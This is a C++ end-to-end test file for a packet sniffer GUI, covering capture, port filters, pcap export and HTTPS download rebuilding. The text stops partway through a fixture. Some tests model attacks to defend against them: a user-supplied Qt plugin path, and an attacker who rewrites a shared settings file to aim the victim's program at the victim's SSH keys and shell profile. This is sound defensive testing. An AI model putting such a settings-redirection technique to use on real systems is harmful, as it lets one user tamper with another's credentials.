// The program as a new user meets it: copied alone into an empty folder and started on a
// display of its own, with and without a window manager, driven by real key presses and
// clicks, and judged by what the user sees (window titles) and what lands on disk.
#include <fcntl.h>
#include <grp.h>
#include <gtest/gtest.h>
#include <pwd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <memory>
#include <optional>
#include <random>
#include <regex>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "Desktop.h"
#include "app/SettingsRecord.h"
#include "packetmode/CaptureFileExport.h"
#include "platform/LinuxSetupFiles.h"
#include "support/FileContents.h"
#include "support/LocalWebServer.h"
#include "support/LoopbackHttpServer.h"
#include "support/LoopbackTraffic.h"
#include "support/TempDir.h"

namespace qhs::journey {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;

// Window titles (POSIX extended expressions, as xdotool takes them).
constexpr const char* ModeChoiceTitle = "^Quillharbour Sniffer Mode Choice$";
constexpr const char* InterfaceTitle = "Choose Interface$";  // after a run of spaces
constexpr const char* WaitingSnifferTitle = "^Sniffer - Waiting$";
constexpr const char* FilterSetupTitle = "^Quillharbour Sniffer - Filter Setup$";
constexpr const char* FileSnifferTitle = "^Quillharbour Sniffer \\(File Sniffer Mode\\)$";
constexpr const char* SaveAsTitle = "^Save As$";
constexpr const char* OpenTitle = "^Open$";

// Controls, by the controlId each carries.
constexpr int FileSnifferModeButton = 1051;  // mode choice
constexpr int ApplyFiltersBox = 1080;        // Packet Sniffer window
constexpr int SetupFiltersButton = 1079;
constexpr int DestinationPortsField = 1080;  // Filter setup
constexpr int FilterOkButton = 1;
constexpr int FilterCancelButton = 1088;

constexpr const char* ProgramName = "QuillharbourSnifferV1.5.exe";
constexpr const char* SettingsName = "QuillharbourSnifferV1.5.QHS";

// A UDP port with a socket bound to it, so datagrams sent there draw no "port unreachable".
class UdpSink {
  public:
    explicit UdpSink(std::uint16_t port) {
        const sockaddr_in address = loopbackAddress(port);
        bound_ = ::bind(socket_, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0;
    }
    ~UdpSink() { ::close(socket_); }
    UdpSink(const UdpSink&) = delete;
    UdpSink& operator=(const UdpSink&) = delete;
    bool bound() const { return bound_; }

  private:
    int socket_ = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    bool bound_ = false;
};

// Whether `program` captures: it holds a packet socket bound to an interface and running,
// with its receive ring mapped, so every datagram from now on reaches it.
bool capturing(pid_t program, uid_t user) {
    std::ifstream sockets("/proc/net/packet");
    std::string line;
    std::getline(sockets, line);  // sk RefCnt Type Proto Iface R Rmem User Inode
    std::vector<std::string> live;
    while (std::getline(sockets, line)) {
        std::istringstream fields(line);
        std::string skip;
        int interface = 0;
        int running = 0;
        uid_t owner = 0;
        std::string inode;
        if (fields >> skip >> skip >> skip >> skip >> interface >> running >> skip >> owner >>
                inode &&
            interface != 0 && running == 1 && owner == user) {
            live.push_back("socket:[" + inode + "]");
        }
    }
    const std::string maps = fileContents("/proc/" + std::to_string(program) + "/maps");
    return std::any_of(live.begin(), live.end(), [&](const std::string& socket) {
        return maps.find(socket) != std::string::npos;
    });
}

std::size_t countOf(const std::string& text, const std::string& word) {
    std::size_t found = 0;
    for (auto at = text.find(word); at != std::string::npos; at = text.find(word, at + 1)) {
        ++found;
    }
    return found;
}

std::string filesIn(const fs::path& folder) {
    std::string names;
    std::error_code error;
    for (const auto& entry : fs::directory_iterator(folder, error)) {
        names += " \"" + entry.path().filename().string() + "\" (" +
                 std::to_string(entry.is_regular_file() ? entry.file_size() : 0) + " bytes)";
    }
    return names.empty() ? " none" : names;
}

bool haveCommand(const std::string& name) {
    return runProgram({"sh", "-c", "command -v " + name + " >/dev/null"}) == 0;
}

// Each test gets a display of its own; the parameter says whether a window manager runs.
class Journey : public testing::TestWithParam<bool> {
  protected:
    void SetUp() override {
        if (::geteuid() != 0) {
            GTEST_SKIP() << "needs root: a private network, capture capabilities, a session user";
        }
        for (const char* tool : {"Xvfb", "xdotool", "xprop", "setcap"}) {
            if (!haveCommand(tool)) {
                GTEST_SKIP() << tool << " is missing (scripts/install-deps.sh installs it)";
            }
        }
        if (GetParam() && !haveCommand("openbox")) {
            GTEST_SKIP() << "openbox is missing (scripts/install-deps.sh installs it)";
        }
        desktop_ = std::make_unique<Desktop>(dir_.path(), GetParam());
        ASSERT_EQ(desktop_->problem(), "") << fileContents(dir_.path() / "xvfb.log");
        appFolder_ = desktop_->userFolder("app");
    }

    void TearDown() override {
        program_.kill();
        desktop_.reset();
    }

    Desktop& desktop() { return *desktop_; }
    fs::path settingsPath() const { return appFolder_ / SettingsName; }
    std::string programErrors() const { return fileContents(dir_.path() / "program.err"); }
    // What a failure message adds: the windows on show, the program's standard error and a
    // picture of the screen, saved under journey-screenshots/ in the working folder.
    std::string scene() {
        const auto* test = testing::UnitTest::GetInstance()->current_test_info();
        std::string name = std::string(test->test_suite_name()) + "." + test->name() + "-" +
                           std::to_string(++scenes_) + ".png";
        std::replace(name.begin(), name.end(), '/', '-');
        const fs::path shot = fs::current_path() / "journey-screenshots" / name;
        return desktop_->shownTitles() + "; standard error: \"" + programErrors() + "\"" +
               (desktop_->screenshot(shot) ? "; the screen: " + shot.string() : "");
    }

    // Copies the program alone into the empty folder and starts it as the user would, with
    // the capture capability scripts/run.sh gives the built program (unless told otherwise),
    // and with any variables added to the session's environment.
    testing::AssertionResult startProgram(bool withCapability = true,
                                          const Environment& extraEnvironment = {}) {
        const fs::path program = appFolder_ / ProgramName;
        fs::copy_file(QHS_APP_PATH, program, fs::copy_options::overwrite_existing);
        // A change of owner drops file capabilities, so they are set last.
        if (::chown(program.c_str(), desktop().user().uid, desktop().user().gid) != 0) {
            return testing::AssertionFailure() << "cannot hand the program to the user";
        }
        fs::permissions(program, fs::perms(0755));
        if (withCapability && runCommand({"setcap", "cap_net_raw=p", program.string()},
                                         {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})
                                      .exitCode != 0) {
            return testing::AssertionFailure() << "setcap failed on " << program.string();
        }
        return start(program, extraEnvironment);
    }

    testing::AssertionResult start(const fs::path& program,
                                   const Environment& extraEnvironment = {}) {
        program_ = desktop().startAsUser({program.string(), "noinstall"}, appFolder_,
                                         dir_.path() / "program.out", dir_.path() / "program.err",
                                         extraEnvironment);
        return program_.started() ? testing::AssertionSuccess()
                                  : testing::AssertionFailure() << "the program did not start";
    }

    testing::AssertionResult clickOn(unsigned long window, const std::string& windowName,
                                     int controlId) {
        if (desktop().clickControl(window, windowName, controlId)) {
            return testing::AssertionSuccess();
        }
        return testing::AssertionFailure() << "found no control " << controlId << " to click in "
                                           << windowName << "; " << scene();
    }

    testing::AssertionResult press(unsigned long window, const std::vector<std::string>& keys) {
        if (!desktop().focus(window)) {
            return testing::AssertionFailure()
                   << "window " << window << " did not take the focus; " << scene();
        }
        return desktop().keys(keys) ? testing::AssertionSuccess()
                                    : testing::AssertionFailure() << "xdotool key failed";
    }

    // The mode choice opens first; Packet Sniffer Mode is its default button (Return), File
    // Sniffer Mode is clicked.
    testing::AssertionResult chooseMode(bool packetMode) {
        const auto choice = desktop().waitForWindow(ModeChoiceTitle);
        if (!choice) {
            return testing::AssertionFailure() << "no mode choice; " << scene();
        }
        const testing::AssertionResult chosen =
            packetMode ? press(*choice, {"Return"})
                       : clickOn(*choice, "mode-choice", FileSnifferModeButton);
        if (!chosen) {
            return chosen;
        }
        return desktop().waitUntilGone(*choice)
                   ? testing::AssertionSuccess()
                   : testing::AssertionFailure() << "the mode choice stays open; " << scene();
    }

    // The interface choice lists the private network's only address, 127.0.0.1. Return
    // before a row is selected asks for one in a box with an empty title bar; then Space
    // selects the row the list starts on, and Return presses OK.
    testing::AssertionResult chooseTheOnlyInterface() {
        const auto chooser = desktop().waitForWindow(InterfaceTitle);
        if (!chooser) {
            return testing::AssertionFailure() << "no interface choice; " << scene();
        }
        if (testing::AssertionResult pressed = press(*chooser, {"Return"}); !pressed) {
            return pressed;
        }
        std::optional<unsigned long> box;
        waitFor(
            [&] {
                for (const unsigned long window : desktop().shownWindows()) {
                    if (window != *chooser) {
                        box = window;
                    }
                }
                return box.has_value();
            },
            5s);
        if (!box) {
            return testing::AssertionFailure() << "OK without a row asked nothing; " << scene();
        }
        if (const std::string title = desktop().title(*box); !title.empty()) {
            return testing::AssertionFailure()
                   << "the box that asks for an interface is titled \"" << title << "\"";
        }
        if (testing::AssertionResult pressed = press(*box, {"Return"}); !pressed) {
            return pressed;
        }
        if (!desktop().waitUntilGone(*box)) {
            return testing::AssertionFailure() << "the box stays open; " << scene();
        }
        if (testing::AssertionResult pressed = press(*chooser, {"space", "Return"}); !pressed) {
            return pressed;
        }
        return desktop().waitUntilGone(*chooser)
                   ? testing::AssertionSuccess()
                   : testing::AssertionFailure() << "the interface choice stays open; " << scene();
    }

    // The count of the caption "Sniffer - N items"; nothing while it reads otherwise
    // ("Sniffer - Waiting", or the number signs of the blink that greets new rows).
    std::optional<int> listedCount(unsigned long window) {
        static const std::regex counted("^Sniffer - ([0-9]+) items$");
        std::smatch match;
        const std::string caption = desktop().title(window);
        if (!std::regex_match(caption, match, counted)) {
            return std::nullopt;
        }
        return std::stoi(match[1]);
    }

    // Starts the program for a user who chose the loopback interface on an earlier start
    // and opens Packet Sniffer Mode; `window` is then its window, waiting.
    testing::AssertionResult openPacketSnifferChosenEarlier(std::optional<unsigned long>& window) {
        SettingsRecord earlier = defaultSettings();
        setTextField(earlier.interfaceAddress, "127.0.0.1");
        if (!saveSettings(earlier, settingsPath().string()) ||
            ::chown(settingsPath().c_str(), desktop().user().uid, desktop().user().gid) != 0) {
            return testing::AssertionFailure() << "the settings file could not be made";
        }
        if (testing::AssertionResult started = startProgram(); !started) {
            return started;
        }
        if (testing::AssertionResult chosen = chooseMode(true); !chosen) {
            return chosen;
        }
        window = desktop().waitForWindow(WaitingSnifferTitle);
        if (!window) {
            return testing::AssertionFailure() << "no Packet Sniffer window; " << scene();
        }
        return testing::AssertionSuccess();
    }

    // Chooses a command of the Packet Sniffer window's File menu by keys, as a user does.
    testing::AssertionResult chooseFileCommand(unsigned long window, const std::string& name) {
        const std::optional<WindowLayout> layout = desktop().layoutOf(window, "packet-sniffer");
        if (!layout || !layout->menuPositions.count(name)) {
            return testing::AssertionFailure()
                   << "the File menu has no " << name << "; " << scene();
        }
        std::vector<std::string> keys = {"alt+f"};  // opens on its first command
        keys.insert(keys.end(), layout->menuPositions.at(name), "Down");
        keys.push_back("Return");
        return press(window, keys);
    }

    // Waits until the caption counts at least `wanted` rows; `meanwhile` runs at every look.
    std::optional<int> waitForListed(unsigned long window, int wanted,
                                     const std::function<void()>& meanwhile = {}) {
        std::optional<int> count;
        waitFor(
            [&] {
                if (meanwhile) {
                    meanwhile();
                }
                count = listedCount(window);
                return count && *count >= wanted;
            },
            10s);
        return count && *count >= wanted ? count : std::nullopt;
    }

    // Closes the program's window as a user does: with a window manager by its close box
    // (Alt+F4 asks the manager to close it, as the box does), without one by File > Exit.
    // The program must then end by itself, with exit code 0.
    testing::AssertionResult closeAndExitCleanly(unsigned long window) {
        const testing::AssertionResult pressed =
            desktop().windowManager() ? press(window, {"alt+F4"}) : press(window, {"alt+f", "e"});
        if (!pressed) {
            return pressed;
        }
        const std::optional<int> exitCode = program_.waitForExit(10s);
        if (!exitCode) {
            return testing::AssertionFailure()
                   << "the program did not end after its window was closed; " << scene();
        }
        if (*exitCode != 0) {
            return testing::AssertionFailure() << "exit code " << *exitCode << "; " << scene();
        }
        return testing::AssertionSuccess();
    }

    // The user's file, read byte for byte (the program itself, as root, would not trust a
    // file of another user).
    SettingsRecord savedSettings() {
        SettingsRecord record = defaultSettings();
        const std::string bytes = fileContents(settingsPath());
        EXPECT_EQ(bytes.size(), sizeof(SettingsRecord));
        if (bytes.size() == sizeof record) {
            std::memcpy(&record, bytes.data(), sizeof record);
        }
        return record;
    }

    // A Qt warning is a defect; anything else the program wrote there is shown in the log.
    void expectNoQtWarnings() {
        const std::string errors = programErrors();
        EXPECT_EQ(qtWarnings(errors), std::vector<std::string>{}) << errors;
        if (!errors.empty()) {
            std::cerr << "The program's standard error:\n" << errors;
        }
    }

    TempDir dir_;
    std::unique_ptr<Desktop> desktop_;
    fs::path appFolder_;
    ChildProcess program_;
    int scenes_ = 0;
};

TEST_P(Journey, FirstStartCapturesOnTheInterfaceChosenAtOpeningAndSavesOnClose) {
    ASSERT_TRUE(startProgram());
    ASSERT_TRUE(chooseMode(true));
    ASSERT_TRUE(chooseTheOnlyInterface());
    const auto window = desktop().waitForWindow(WaitingSnifferTitle);
    ASSERT_TRUE(window) << scene();
    ASSERT_TRUE(press(*window, {"Return"}));  // Start is the default button

    UdpSink sink(40801);
    ASSERT_TRUE(sink.bound());
    const std::optional<int> listed =
        waitForListed(*window, 1, [] { sendLoopbackUdp(40801, "seen on a first start"); });
    ASSERT_TRUE(listed) << "the caption never counted a packet: it reads \""
                        << desktop().title(*window) << "\"; " << scene();

    ASSERT_TRUE(closeAndExitCleanly(*window));
    const SettingsRecord saved = savedSettings();
    EXPECT_EQ(textField(saved.interfaceAddress), "127.0.0.1");
    EXPECT_EQ(saved.snifferMode, 0u);
    expectNoQtWarnings();
}

// A user who chose the interface on an earlier start sets a port filter while capturing.
TEST_P(Journey, FilterSetupOpenedDuringCaptureListsOnlyTheTypedPortAndIsSavedOnClose) {
    if (!haveCommand("tcpdump")) {
        GTEST_SKIP() << "tcpdump reads the exported capture (scripts/install-deps.sh)";
    }
    std::optional<unsigned long> window;
    ASSERT_TRUE(openPacketSnifferChosenEarlier(window));
    ASSERT_TRUE(press(*window, {"Return"}));
    UdpSink before(40810);
    UdpSink wanted(40811);
    UdpSink other(40812);
    ASSERT_TRUE(before.bound() && wanted.bound() && other.bound());
    ASSERT_TRUE(waitForListed(*window, 1, [] { sendLoopbackUdp(40810, "before the filter"); }))
        << "the capture did not start: the caption reads \"" << desktop().title(*window) << "\"; "
        << scene();

    ASSERT_TRUE(clickOn(*window, "packet-sniffer", ApplyFiltersBox));
    ASSERT_TRUE(clickOn(*window, "packet-sniffer", SetupFiltersButton));
    const auto setup = desktop().waitForWindow(FilterSetupTitle);
    ASSERT_TRUE(setup) << "Setup packet filters opened no window; " << scene();
    ASSERT_TRUE(clickOn(*setup, "filter-setup", DestinationPortsField));
    ASSERT_TRUE(desktop().keys({"ctrl+a"}) && desktop().type("40811"));
    ASSERT_TRUE(clickOn(*setup, "filter-setup", FilterOkButton));
    ASSERT_TRUE(desktop().waitUntilGone(*setup))
        << "the Filter setup window took no input: it is still open after a port was typed "
           "and OK clicked; "
        << scene();

    // Another one, left with Cancel, changes nothing.
    ASSERT_TRUE(clickOn(*window, "packet-sniffer", SetupFiltersButton));
    const auto cancelled = desktop().waitForWindow(FilterSetupTitle);
    ASSERT_TRUE(cancelled) << "Setup packet filters opened no second window; " << scene();
    ASSERT_TRUE(clickOn(*cancelled, "filter-setup", DestinationPortsField));
    ASSERT_TRUE(desktop().keys({"ctrl+a"}) && desktop().type("40999"));
    ASSERT_TRUE(clickOn(*cancelled, "filter-setup", FilterCancelButton));
    ASSERT_TRUE(desktop().waitUntilGone(*cancelled))
        << "Cancel did not close the second Filter setup window; " << scene();

    const std::optional<int> listedBefore = waitForListed(*window, 1);
    ASSERT_TRUE(listedBefore) << scene();
    for (int i = 0; i < 3; ++i) {
        ASSERT_TRUE(sendLoopbackUdp(40812, "left out by the filter"));
        ASSERT_TRUE(sendLoopbackUdp(40811, "let through by the filter"));
    }
    // Loopback keeps the order: once the last one is listed, the others have been judged.
    ASSERT_TRUE(sendLoopbackUdp(40811, "the last one"));
    ASSERT_TRUE(waitForListed(*window, *listedBefore + 4))
        << "the datagrams to the filter's port were not all listed: the caption reads \""
        << desktop().title(*window) << "\"; " << scene();

    // What is listed, as File > "Export capture file..." writes it.
    ASSERT_TRUE(chooseFileCommand(*window, "exportCaptureFile"));
    const auto saveAs = desktop().waitForWindow(SaveAsTitle);
    ASSERT_TRUE(saveAs) << "no file dialog; " << scene();
    const fs::path exported = desktop().userFolder("captures") / "filtered.pcap";
    ASSERT_TRUE(desktop().focus(*saveAs) && desktop().type(exported.string()));
    ASSERT_TRUE(desktop().keys({"Return"}));
    std::string packets;
    const auto read = [&] {
        packets = runCommand({"tcpdump", "-n", "-r", exported.string()},
                             {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})
                      .output;
        return countOf(packets, "> 127.0.0.1.40811:") == 4;
    };
    ASSERT_TRUE(waitFor(read, 10s)) << "exported:\n" << packets << scene();
    EXPECT_EQ(countOf(packets, "> 127.0.0.1.40812:"), 0u) << packets;

    ASSERT_TRUE(closeAndExitCleanly(*window));
    const SettingsRecord saved = savedSettings();
    EXPECT_EQ(saved.filterDestPorts[0], 40811);
    EXPECT_EQ(saved.filterDestPorts[1], 0);
    EXPECT_EQ(int{saved.applyFilters}, 1);
    expectNoQtWarnings();
}

// A user opens a capture file from a tool of today (a pcapng file holding a time after 2106,
// a datagram of more than 64 KiB and an IPv6 one) and exports the list: every datagram comes
// back whole, at its time, the IPv6 one read as IPv6.
TEST_P(Journey, ACaptureFileOpenedAndExportedKeepsEveryDatagramAndTime) {
    if (!haveCommand("tshark")) {
        GTEST_SKIP() << "tshark reads the exported capture (scripts/install-deps.sh)";
    }
    std::vector<std::uint8_t> large(70000, 0x5A);
    large[0] = 0x45;
    large[2] = large[3] = 0;  // total length 0: more than 64 KiB, as Linux sends it
    large[9] = 17;
    std::vector<std::uint8_t> small(40, 0);
    small[0] = 0x45;
    small[3] = 40;
    small[9] = 17;
    std::vector<std::uint8_t> ipv6(48, 0);  // UDP from ::1 to ::2
    ipv6[0] = 0x60;
    ipv6[5] = 8;
    ipv6[6] = 17;
    ipv6[23] = 1;
    ipv6[39] = 2;
    const fs::path opened = desktop().userFolder("captures") / "today.pcapng";
    {
        PacketTable table;
        table.lock().store().append(CapturedPacket::copyOf(large.data(), 70000), "t",
                                    1'700'000'000'250'000'000);
        table.lock().store().append(CapturedPacket::copyOf(ipv6.data(), 48), "t",
                                    1'700'000'001'000'000'000);
        table.lock().store().append(CapturedPacket::copyOf(small.data(), 40), "t",
                                    4'294'967'301'250'000'000);  // 2106-02-07 06:28:21.25
        std::atomic<bool> cancel{false};
        ASSERT_EQ(writeCaptureFile(opened.string(), table, defaultSettings(), cancel).status,
                  SaveStatus::Saved);
        ASSERT_EQ(::chown(opened.c_str(), desktop().user().uid, desktop().user().gid), 0);
    }
    std::optional<unsigned long> window;
    ASSERT_TRUE(openPacketSnifferChosenEarlier(window));
    ASSERT_TRUE(chooseFileCommand(*window, "openCaptureFile"));
    const auto open = desktop().waitForWindow(OpenTitle);
    ASSERT_TRUE(open) << "no file dialog; " << scene();
    ASSERT_TRUE(desktop().focus(*open) && desktop().type(opened.string()));
    ASSERT_TRUE(desktop().keys({"Return"}));
    // The caption counts a capture's packets only; three packets are read long before a
    // second is out.
    ASSERT_TRUE(desktop().waitUntilGone(*open)) << "the file dialog stayed open; " << scene();
    std::this_thread::sleep_for(1s);

    ASSERT_TRUE(chooseFileCommand(*window, "exportCaptureFile"));
    const auto saveAs = desktop().waitForWindow(SaveAsTitle);
    ASSERT_TRUE(saveAs) << "no file dialog; " << scene();
    const fs::path exported = desktop().userFolder("captures") / "kept.pcap";
    ASSERT_TRUE(desktop().focus(*saveAs) && desktop().type(exported.string()));
    ASSERT_TRUE(desktop().keys({"Return"}));
    std::string frames;
    const auto read = [&] {
        frames = runCommand({"tshark", "-r", exported.string(), "-T", "fields", "-e",
                             "frame.cap_len", "-e", "frame.time_epoch", "-e", "ipv6.dst"},
                            {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})
                     .output;
        return frames ==
               "70000\t1700000000.250000000\t\n48\t1700000001.000000000\t::2\n"
               "40\t4294967301.250000000\t\n";
    };
    EXPECT_TRUE(waitFor(read, 10s)) << "exported:\n" << frames << scene();

    ASSERT_TRUE(closeAndExitCleanly(*window));
    expectNoQtWarnings();
}

// File Sniffer Mode, started for the first time, rebuilds a download into the user's
// download folder, the one user-dirs.dirs names; with SSLKEYLOGFILE set, as for the browser,
// an HTTPS download too.
TEST_P(Journey, FirstStartInFileSnifferModeRebuildsADownloadInTheDownloadFolder) {
    if (!LocalWebServer::available()) {
        GTEST_SKIP() << "nginx and curl are needed (scripts/install-deps.sh installs them)";
    }
    const fs::path config = desktop().home() / ".config";
    const fs::path downloads = desktop().home() / "Downloads";
    fs::create_directories(config);
    fs::create_directories(downloads);
    writeFileContents(config / "user-dirs.dirs", "XDG_DOWNLOAD_DIR=\"$HOME/Downloads\"\n");
    for (const fs::path& folder : {config, config / "user-dirs.dirs", downloads}) {
        ASSERT_EQ(::chown(folder.c_str(), desktop().user().uid, desktop().user().gid), 0);
    }
    const fs::path www = dir_.path() / "www";
    fs::create_directories(www);
    std::string body(300 * 1024, '\0');
    std::mt19937 random(7);
    for (char& byte : body) {
        byte = static_cast<char>(random());
    }
    writeFileContents(www / "picture.png", body);
    std::string secureBody = body;
    std::reverse(secureBody.begin(), secureBody.end());
    writeFileContents(www / "secure.png", secureBody);
    LocalWebServer server(dir_.path(), www, false, true);
    ASSERT_TRUE(server.running()) << server.errors();
    // The user's key log, which their browser (here curl) writes.
    const fs::path keys = desktop().home() / "tls-keys.log";

    ASSERT_TRUE(startProgram(true, {"SSLKEYLOGFILE=" + keys.string()}));
    ASSERT_TRUE(chooseMode(false));
    ASSERT_TRUE(chooseTheOnlyInterface());
    const auto window = desktop().waitForWindow(FileSnifferTitle);
    ASSERT_TRUE(window) << scene();
    ASSERT_TRUE(press(*window, {"Return"}));  // Start is the default button
    ASSERT_TRUE(waitFor([&] { return capturing(program_.pid(), desktop().user().uid); }, 10s))
        << "Start opened no capture; " << scene();

    ASSERT_EQ(runProgram({"curl", "-s", "-o", (dir_.path() / "fetched").string(),
                          LocalWebServer::address("/picture.png")}),
              0);
    ASSERT_EQ(runProgram({"env", "SSLKEYLOGFILE=" + keys.string(), "curl", "-sk", "-o",
                          (dir_.path() / "fetched-securely").string(),
                          LocalWebServer::secureAddress("/secure.png")}),
              0);
    // Written once the connection has been quiet for the ACK time-out (10 s by default); the
    // HTTPS one as soon as its response is whole.
    const auto rebuilt = [&](const std::string& wanted) {
        return [&downloads, &wanted] {
            std::error_code error;
            for (const auto& entry : fs::directory_iterator(downloads, error)) {
                if (entry.is_regular_file() && fileContents(entry.path()) == wanted) {
                    return true;
                }
            }
            return false;
        };
    };
    ASSERT_TRUE(waitFor(rebuilt(body), 30s))
        << "no rebuilt download in " << downloads.string() << "; it holds:" << filesIn(downloads)
        << "; " << scene();
    ASSERT_TRUE(waitFor(rebuilt(secureBody), 10s))
        << "no rebuilt HTTPS download in " << downloads.string()
        << "; it holds:" << filesIn(downloads) << "; " << scene();

    ASSERT_TRUE(closeAndExitCleanly(*window));
    EXPECT_EQ(textField(savedSettings().fileOutputDirectory), downloads.string() + "/");
    expectNoQtWarnings();
}

// With the capture right, the program loads no code from a folder the user names: a style
// plugin offered through QT_PLUGIN_PATH is taken by a copy without the right, and not by
// the same copy once it has it.
TEST_P(Journey, WithTheCaptureRightNoPluginComesFromAFolderTheUserNames) {
    const fs::path plugins = desktop().userFolder("plugins");
    const fs::path plugin = JOURNEY_STYLE_PLUGIN_PATH;
    fs::create_directories(plugins / "styles");
    fs::copy_file(plugin, plugins / "styles" / plugin.filename());
    const fs::path marker = desktop().userFolder("marks") / "loaded";
    const Environment offered = {"QT_PLUGIN_PATH=" + plugins.string(),
                                 "QT_STYLE_OVERRIDE=journeymarker",
                                 "JOURNEY_PLUGIN_MARKER=" + marker.string()};

    ASSERT_TRUE(startProgram(false, offered));
    ASSERT_TRUE(desktop().waitForWindow(ModeChoiceTitle)) << scene();
    ASSERT_TRUE(fs::exists(marker)) << "the plugin is not one Qt would load at all";
    program_.kill();
    fs::remove(marker);

    ASSERT_TRUE(startProgram(true, offered));
    ASSERT_TRUE(desktop().waitForWindow(ModeChoiceTitle)) << scene();
    EXPECT_FALSE(fs::exists(marker))
        << "a plugin from the user's folder ran with the capture right";
}

// A user made for one test, in the capture group; removed again with the object.
class ThrowAwayUser {
  public:
    ThrowAwayUser(const std::string& name, const fs::path& home) : name_(name) {
        const group* capture = ::getgrnam(CaptureGroupName);
        created_ =
            capture != nullptr &&
            runCommand({"useradd", "--system", "--no-create-home", "--home-dir", home.string(),
                        "--shell", "/usr/sbin/nologin", "--groups", CaptureGroupName, name},
                       {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})
                    .exitCode == 0;
        if (const passwd* entry = created_ ? ::getpwnam(name.c_str()) : nullptr) {
            user_ = RunAs{entry->pw_uid, entry->pw_gid, capture->gr_gid};
        }
    }
    ~ThrowAwayUser() {
        if (created_) {
            runCommand({"userdel", name_}, {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"});
        }
    }
    ThrowAwayUser(const ThrowAwayUser&) = delete;
    ThrowAwayUser& operator=(const ThrowAwayUser&) = delete;

    bool created() const { return created_ && user_.uid != 0; }
    const std::string& name() const { return name_; }
    RunAs user() const { return user_; }

  private:
    std::string name_;
    bool created_ = false;
    RunAs user_;
};

// Writes a file as `who` would, through their own rights; false when they may not.
bool writeAs(RunAs who, const fs::path& path, const std::string& bytes) {
    const pid_t child = ::fork();
    if (child == 0) {
        const gid_t groups[] = {who.gid, who.otherGroup};
        if (::setgroups(2, groups) != 0 || ::setgid(who.gid) != 0 || ::setuid(who.uid) != 0) {
            ::_exit(2);
        }
        const int file = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        const bool written = file >= 0 && ::write(file, bytes.data(), bytes.size()) ==
                                              static_cast<ssize_t>(bytes.size());
        ::_exit(written ? 0 : 1);
    }
    int status = 0;
    return child > 0 && ::waitpid(child, &status, 0) == child && WIFEXITED(status) &&
           WEXITSTATUS(status) == 0;
}

std::string recordBytes(const SettingsRecord& record) {
    return std::string(reinterpret_cast<const char*>(&record), sizeof record);
}

// Two members of the capture group share an installed copy. The attacker writes every
// settings file they can reach to aim the victim's program at the victim's own files; the
// victim captures the attacker's traffic; nothing of the victim's changes.
class HostileMember : public Journey {
  protected:
    void SetUp() override {
        Journey::SetUp();
        if (IsSkipped() || HasFatalFailure()) {
            return;
        }
        for (const char* tool : {"useradd", "userdel"}) {
            if (!haveCommand(tool)) {
                GTEST_SKIP() << tool << " is missing";
            }
        }
        // Installed by root as the installer does it.
        const fs::path folder = dir_.path() / "opt" / "Quillharbour Sniffer 1.5";
        fs::create_directories(folder);
        fs::permissions(dir_.path() / "opt", fs::perms(0755));
        fs::permissions(folder, fs::perms(0755));
        installed_ = folder / ProgramName;
        LinuxSetupFiles files;
        ASSERT_TRUE(files.copyExecutable(QHS_APP_PATH, installed_.string()));
        ASSERT_TRUE(files.allowCapture(installed_.string()));
        EXPECT_EQ(
            runCommand({"getcap", installed_.string()}, {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"})
                .output,
            installed_.string() + " cap_net_raw=p\n");
        // A settings file beside it that the group may write, as an administrator could
        // have left it for everyone to share.
        shared_ = folder / SettingsName;
        writeFileContents(shared_, recordBytes(defaultSettings()));
        ASSERT_EQ(::chown(shared_.c_str(), 0, ::getgrnam(CaptureGroupName)->gr_gid), 0);
        fs::permissions(shared_, fs::perms(0660));

        const std::string suffix = std::to_string(::getpid() % 100000);
        const fs::path victimWork = dir_.path() / "victim";
        attacker_ =
            std::make_unique<ThrowAwayUser>("qhs-attacker-" + suffix, dir_.path() / "attacker");
        victim_ = std::make_unique<ThrowAwayUser>("qhs-victim-" + suffix,
                                                  victimWork / "session" / "home");
        ASSERT_TRUE(attacker_->created() && victim_->created()) << "useradd failed";
        desktop_.reset();
        fs::create_directories(victimWork);
        desktop_ = std::make_unique<Desktop>(victimWork, GetParam(), victim_->name());
        ASSERT_EQ(desktop_->problem(), "");
        appFolder_ = desktop().home();

        const fs::path home = desktop().home();
        fs::create_directories(home / ".ssh");
        writeFileContents(home / ".ssh" / "authorized_keys", VictimKey);
        writeFileContents(home / ".bashrc", VictimShell);
        for (const fs::path& path :
             {home / ".ssh", home / ".ssh" / "authorized_keys", home / ".bashrc"}) {
            ASSERT_EQ(::chown(path.c_str(), desktop().user().uid, desktop().user().gid), 0);
        }
        fs::permissions(home / ".ssh", fs::perms(0700));
    }

    void TearDown() override {
        Journey::TearDown();
        victim_.reset();
        attacker_.reset();
    }

    // The attacker writes `aimed` into every settings file they can; the victim's own must
    // not be among them.
    void aim(const SettingsRecord& aimed) {
        const fs::path victimOwn = desktop().home() / ".config" / "quillharbour" / SettingsName;
        EXPECT_TRUE(writeAs(attacker_->user(), shared_, recordBytes(aimed)));
        EXPECT_FALSE(writeAs(attacker_->user(), victimOwn, recordBytes(aimed)));
        EXPECT_FALSE(
            writeAs(attacker_->user(), installed_.parent_path() / "other.QHS", recordBytes(aimed)));
    }

    // Opens the mode's window from whatever the start shows, as the victim would.
    std::optional<unsigned long> reachModeWindow(bool packetMode) {
        const char* wanted = packetMode ? WaitingSnifferTitle : FileSnifferTitle;
        std::optional<unsigned long> window;
        const auto shownOr = [&](const char* other) {
            return waitFor(
                [&] {
                    window = desktop().findWindow(wanted);
                    return window || desktop().findWindow(other);
                },
                15s);
        };
        if (!shownOr(ModeChoiceTitle)) {
            return std::nullopt;
        }
        if (!window) {
            if (!chooseMode(packetMode) || !shownOr(InterfaceTitle)) {
                return std::nullopt;
            }
            if (!window && chooseTheOnlyInterface()) {
                window = desktop().waitForWindow(wanted);
            }
        }
        return window;
    }

